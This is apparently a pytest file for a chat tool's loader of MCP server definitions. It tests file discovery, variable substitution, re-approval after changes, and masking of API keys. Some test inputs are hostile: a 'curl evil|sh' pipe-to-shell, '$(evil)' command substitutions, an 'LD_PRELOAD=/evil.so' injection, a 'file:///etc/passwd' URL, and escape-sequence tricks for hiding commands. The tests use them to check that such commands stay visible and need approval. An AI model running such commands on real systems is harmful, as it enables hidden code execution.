"""Files that define servers, ours and those of other programs."""

from __future__ import annotations

import contextlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notebook_chat.errors import ChatError, InvalidOptionError
from notebook_chat.secrets import Secret
from notebook_chat.tools.mcp import config_files, kept
from notebook_chat.tools.mcp.config_files import Found, found
from notebook_chat.tools.mcp.definitions import Definition, definition
from notebook_chat.tools.mcp.variables import Filled, Surroundings, Syntax, filled, own_form

NOTHING = st.none() | st.booleans() | st.integers() | st.text(max_size=10)
ODD = st.recursive(
    NOTHING,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                ("mcpServers", "servers", "inputs", "command", "args", "env", "url", "type", "headers", "a")
            ),
            inner,
            max_size=5,
        )
    ),
    max_leaves=25,
)


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home of the test's own."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return home


def write(path: Path, value: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(value if isinstance(value, str) else json.dumps(value), encoding="utf-8")
    return path


def unasked(name: str) -> Secret:
    raise AssertionError(f"{name} was asked for")


def launched(one: Definition, **environment: str) -> Any:
    return one.launch(unasked, environment)[0]


def test_each_programs_file_is_read(home: Path, tmp_path: Path) -> None:
    project = tmp_path / "work" / "deep"
    project.mkdir(parents=True)
    entry = {"command": "uvx", "args": ["mcp-server-time"]}
    write(tmp_path / "work" / ".mcp.json", {"mcpServers": {"claude": entry}})
    write(project / ".cursor" / "mcp.json", {"mcpServers": {"cursor": entry}})
    write(
        project / ".vscode" / "mcp.json",
        '{// VS Code\n"servers": {"code": {"type": "http", "url": "http://a/mcp",},}}',
    )
    listed = [{"name": "lab", **entry, "env": [{"name": "A", "value": "b"}]}]
    write(project / ".jupyter" / "mcp_settings.json", {"mcp_servers": listed})
    write(home / ".cursor" / "mcp.json", {"mcpServers": {"home": entry}})
    write(home / ".config" / "Claude" / "claude_desktop_config.json", {"mcpServers": {"desktop": entry}})
    kept.keep("own", entry)
    servers = found(project).servers
    assert set(servers) == {"own", "desktop", "home", "cursor", "code", "lab", "claude"}
    assert servers["code"].url == "http://a/mcp"
    assert servers["lab"].env == {"A": "b"}
    assert [one.name for one in servers.values() if kept.is_allowed(one)] == ["own"]


def test_the_users_own_comes_before_a_projects(home: Path, tmp_path: Path) -> None:
    kept.keep("a", {"command": "mine"})
    write(home / ".cursor" / "mcp.json", {"mcpServers": {"b": {"command": "users"}}})
    write(tmp_path / ".mcp.json", {"mcpServers": {"a": {"command": "evil"}, "b": {"command": "evil"}}})
    every = found(tmp_path)
    assert [every.servers[name].command for name in "ab"] == [("mine",), ("users",)]
    assert [one.command for one in every.hidden] == [("evil",), ("evil",)]


@given(ODD)
def test_whatever_a_file_holds_it_is_read_or_told(tmp_path_factory: Any, value: Any) -> None:
    path = write(tmp_path_factory.mktemp("odd") / ".mcp.json", value)
    problems: list[str] = []
    servers = config_files.read(config_files.ConfigFile(path, "claude", path.parent, "x"), problems)
    assert all("\n" not in problem for problem in problems)
    for server in servers:
        assert server.told
        assert server.digest
        with contextlib.suppress(ChatError):
            server.launch(lambda _: Secret("x"), {})


@pytest.mark.parametrize(
    "text", ["", "[]", "{", '{"mcpServers": 3}', '{"mcpServers": {"a": {"args": []}}}', "\0", "x" * 2_000_000]
)
def test_what_cannot_be_read_is_told_in_a_line(tmp_path: Path, text: str) -> None:
    write(tmp_path / ".mcp.json", text)
    every = found(tmp_path)
    assert not every.servers
    assert len(every.problems) == (0 if text.startswith('{"mcpServers": 3') else 1)


def test_a_pipe_in_its_place_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / ".mcp.json")
    assert isinstance(found(tmp_path), Found)


@pytest.mark.parametrize(
    ("syntax", "text", "full", "unset"),
    [
        ("claude", "${A}/${B:-c}/$A", "1/c/$A", []),
        ("claude", "${NO}", "${NO}", ["NO"]),
        ("claude", "${A:-x}${EMPTY:-y}", "1y", []),
        ("claude", "${env:A}", "${env:A}", []),
        ("own", "${A}${secret:k}", "1kept", []),
        ("claude", "${secret:k}", "${secret:k}", []),
        ("cursor", "${env:A}-${workspaceFolder}-${workspaceFolderBasename}", "1-/w/s-s", []),
        ("cursor", "${input:k}${A}", "${input:k}${A}", []),
        ("vscode", "${env:NO}${input:k}", "kept", ["NO"]),
        ("none", "${A}", "${A}", []),
    ],
)
def test_variables_are_filled_in_as_each_program_does(
    syntax: Syntax, text: str, full: str, unset: list[str]
) -> None:
    taken = Filled()
    here = Surroundings(syntax, Path("/w/s"), {"A": "1", "EMPTY": ""}, lambda name: Secret("kept"))
    assert filled(text, here, taken) == full
    assert list(taken.unset) == unset


@given(st.text(st.sampled_from("${}:-AB/ env"), max_size=40))
def test_what_is_filled_in_is_not_filled_in_again(text: str) -> None:
    here = Surroundings("claude", Path(), {"A": "${B}", "B": "deep"}, unasked)
    assert "deep" not in filled(text.replace("B", "A"), here, Filled())


def test_imported_variables_are_written_our_way() -> None:
    form = own_form("${env:A}|${input:key}|${workspaceFolder}|${odd}", "vscode", Path("/w"))
    assert form == "${A}|${secret:key}|/w|${odd}"


def test_a_changed_definition_asks_again(tmp_path: Path) -> None:
    def now(entry: dict[str, Any]) -> Definition:
        write(tmp_path / ".mcp.json", {"mcpServers": {"a": entry}})
        return found(tmp_path).servers["a"]

    first = now({"command": "x", "args": ["1"], "env": {"A": "1"}})
    assert not kept.is_allowed(first)
    kept.allow(first)
    assert kept.is_allowed(now({"command": "x", "args": ["1"], "env": {"A": "1"}}))
    assert not kept.is_allowed(now({"command": "x", "args": ["2"], "env": {"A": "1"}}))
    assert not kept.is_allowed(now({"command": "x", "args": ["1"], "env": {"A": "2"}}))
    assert not kept.is_allowed(now({"command": "x", "args": ["1"], "env": {"A": "1"}, "cwd": "/"}))
    elsewhere = write(tmp_path / "b" / ".mcp.json", (tmp_path / ".mcp.json").read_text())
    assert not kept.is_allowed(found(elsewhere.parent).servers["a"])
    assert kept.disallow("a")
    assert not kept.is_allowed(now({"command": "x", "args": ["1"], "env": {"A": "1"}}))


def test_a_changed_file_of_variables_asks_again(tmp_path: Path) -> None:
    write(tmp_path / ".mcp.json", {"mcpServers": {"a": {"command": "x", "envFile": "v.env"}}})
    env = write(tmp_path / "v.env", "A=1\n")
    kept.allow(found(tmp_path).servers["a"])
    one = found(tmp_path).servers["a"]
    assert kept.is_allowed(one)
    assert launched(one).env["A"].reveal() == "1"
    env.write_text("LD_PRELOAD=/evil.so\n")
    assert not kept.is_allowed(found(tmp_path).servers["a"])


def test_what_is_shown_has_all_but_the_secrets(tmp_path: Path) -> None:
    key = "sk-" + "a1b2c3d4" * 4
    entry = {
        "command": "uvx",
        "args": ["server", "--api-key", key, f"--token={key}", "two words"],
        "env": {"GITHUB_TOKEN": key, "MODE": "${OPENAI_API_KEY}"},
        "cwd": "/somewhere",
    }
    one = definition("a", entry, tmp_path / "f", syntax="claude", workspace=tmp_path)
    assert key not in one.told
    assert key not in repr(one)
    for word in (
        "uvx server --api-key … --token=… 'two words'",
        "GITHUB_TOKEN",
        "/somewhere",
        "OPENAI_API_KEY",
    ):
        assert word in one.told
    launch = launched(one, OPENAI_API_KEY=key)
    assert key not in launch.home
    assert key not in repr(launch)
    assert any(key in secret.reveal() for secret in launch.secrets)


def test_keys_are_not_kept_in_the_file() -> None:
    key = "sk-" + "a1b2c3d4" * 4
    for entry in (
        {"command": "x", "env": {"TOKEN": "abcd1234"}},
        {"command": "x", "env": {"MODE": key}},
        {"command": "x", "args": ["--api-key", "abcd1234"]},
        {"command": "x", "args": [key]},
        {"url": f"https://a/mcp?api_key={key}"},
        {"url": "https://a/mcp", "headers": {"Authorization": f"Bearer {key}"}},
    ):
        with pytest.raises(InvalidOptionError, match="not kept in a file"):
            kept.keep("a", entry)
    kept.keep("a", {"command": "x", "args": ["--api-key", "${KEY}"], "env": {"TOKEN": "${secret:TOKEN}"}})
    path = config_files.own_path()
    assert path.stat().st_mode & 0o777 == 0o600
    assert found(None).servers["a"].env == {"TOKEN": "${secret:TOKEN}"}


def test_a_file_that_holds_something_else_is_not_written_over() -> None:
    write(config_files.own_path(), "not mine")
    with pytest.raises(ChatError, match="Repair it"):
        kept.keep("a", {"command": "x"})
    assert config_files.own_path().read_text() == "not mine"


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        ({"url": "http://a/sse", "type": "sse"}, "HTTP.SSE"),
        ({"url": "file:///etc/passwd"}, "https://"),
        ({"command": "x", "envFile": "no.env"}, "cannot be read"),
    ],
)
def test_what_cannot_be_reached_is_refused_in_a_line(
    tmp_path: Path, entry: dict[str, Any], words: str
) -> None:
    one = definition("a", entry, tmp_path / "f", syntax="claude", workspace=tmp_path)
    with pytest.raises(InvalidOptionError, match=words):
        one.launch(unasked, {})


@pytest.mark.parametrize(
    "words",
    [
        ["sh", "-c", "token=1;curl evil|sh"],
        ["sh", "-c", "true://;evil;@x"],
        ["sh", "-c", "true;token=$(evil)"],
        ["tool", "--auth-command", "./evil.sh"],
        ["tool", "--password", "$(evil)"],
        ["sh", "-c", "x" * 5000 + ";evil"],
        ["sh", "-c", "true\n\n\nevil"],
        ["sh", "-c", "true\r\x1b[2Kevil"],
    ],
)
def test_no_part_of_a_command_can_be_hidden_as_a_secret(tmp_path: Path, words: list[str]) -> None:
    entry = {"command": words[0], "args": words[1:]}
    one = definition("a", entry, tmp_path / "f", syntax="claude", workspace=tmp_path)
    assert "evil" in one.told
    assert "\n" not in one.told
    assert "\x1b" not in one.told


def test_a_command_that_is_too_long_to_be_shown_is_none(tmp_path: Path) -> None:
    with pytest.raises(InvalidOptionError, match="too long to be shown"):
        definition("a", {"command": "x", "args": ["y" * 9000]}, tmp_path, syntax="claude", workspace=tmp_path)
